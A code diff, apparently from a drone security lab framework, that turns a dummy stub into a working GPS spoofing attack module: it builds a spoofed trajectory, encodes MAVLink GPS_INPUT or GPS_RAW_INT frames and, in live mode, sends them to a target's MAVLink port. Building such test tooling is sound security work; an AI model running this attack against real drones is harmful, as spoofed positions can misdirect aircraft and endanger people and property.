@@ -1,25 +1,73 @@
 # dvd_lite/dvd_attacks/protocol_tampering/gps_spoofing.py
 """
-GPSSpoofing 공격 (더미 구현)
+GPSSpoofing 공격
+TrajectoryGenerator로 스푸핑 궤적 전체를 만들고 GPS_INPUT/GPS_RAW_INT 프레임으로 일괄 인코딩한다.
+live=True면 대상 MAVLink 포트로 rate_hz 간격에 맞춰 전송하고, 그 외에는 전송을 시뮬레이션한다.
+
+주요 파라미터 (run_attack 키워드):
+    live, mavlink_port, origin(lat, lon, alt), message, profile(SpoofProfile 필드 dict)
 """
 import asyncio
-import random
-from typing import Tuple, List, Dict, Any
+from typing import Tuple, List, Dict, Any, Optional
 from ..core.attack_base import BaseAttack
 from ..core.enums import AttackType
+from ...clock import now
+from .gps_trajectory import SpoofProfile, TrajectoryGenerator, send_track, NUMPY_AVAILABLE
+
+DEFAULT_ORIGIN = (37.7749, -122.4194, 100.0)
 
 class GPSSpoofing(BaseAttack):
     """GPSSpoofing 공격"""
-    
+
     def _get_attack_type(self) -> AttackType:
-        return AttackType.RECONNAISSANCE  # 기본값
-    
+        return AttackType.PROTOCOL_TAMPERING
+
+    @classmethod
+    def expected_duration(cls, config: Dict[str, Any]) -> Optional[float]:
+        """live 전송은 궤적 길이(profile.duration)만큼 실시간으로 진행"""
+        if not config.get("live"):
+            return None
+        try:
+            return SpoofProfile(**config.get("profile", {})).duration
+        except (TypeError, ValueError):
+            # 잘못된 설정은 실행 단계에서 실패로 보고
+            return None
+
     async def _run_attack(self) -> Tuple[bool, List[str], Dict[str, Any]]:
-        """더미 공격 로직"""
-        await asyncio.sleep(random.uniform(1.0, 3.0))
-        
-        success = random.random() > 0.3
-        iocs = [f"GPSSPOOFING_IOC:dummy_indicator"]
-        details = {"success_rate": 0.7 if success else 0.2}
-        
+        if not NUMPY_AVAILABLE:
+            return await self._simulate({})
+
+        profile = SpoofProfile(**self.config.get("profile", {}))
+        message = self.config.get("message", "GPS_INPUT")
+        track = TrajectoryGenerator(*self.config.get("origin", DEFAULT_ORIGIN)).generate(profile, start_time=now())
+        frames = track.encode(message)
+
+        details = {"profile": profile.mode, "message": message, "trajectory": track.summary(),
+                   "encoded_bytes": sum(len(frame) for frame in frames)}
+        self.record_progress(**details)
+
+        if not self.config.get("live"):
+            return await self._simulate(details)
+
+        delivery = await send_track(frames, (self.target_ip, self.config.get("mavlink_port", 14550)), profile.rate_hz)
+        success = delivery["frames_sent"] == len(frames)
+        details.update(delivery, success_rate=delivery["frames_sent"] / len(frames) if frames else 0.0)
+        return success, self._iocs(details), details
+
+    async def _simulate(self, details: Dict[str, Any]) -> Tuple[bool, List[str], Dict[str, Any]]:
+        """전송 시뮬레이션"""
+        await asyncio.sleep(self.random.uniform(1.0, 3.0))
+
+        success = self.random.random() > 0.3
+        details = dict(details, success_rate=0.7 if success else 0.2)
+        iocs = self._iocs(details) if "trajectory" in details else ["GPSSPOOFING_IOC:dummy_indicator"]
+
         return success, iocs, details
+
+    def _iocs(self, details: Dict[str, Any]) -> List[str]:
+        trajectory = details["trajectory"]
+        lat, lon = trajectory["final_position"]
+        return [
+            f"GPS_SPOOF:{details['profile']}:{details['message']}:{lat:.7f},{lon:.7f}",
+            f"GPS_SPOOF_OFFSET:{trajectory['max_offset_m']}m"
+        ]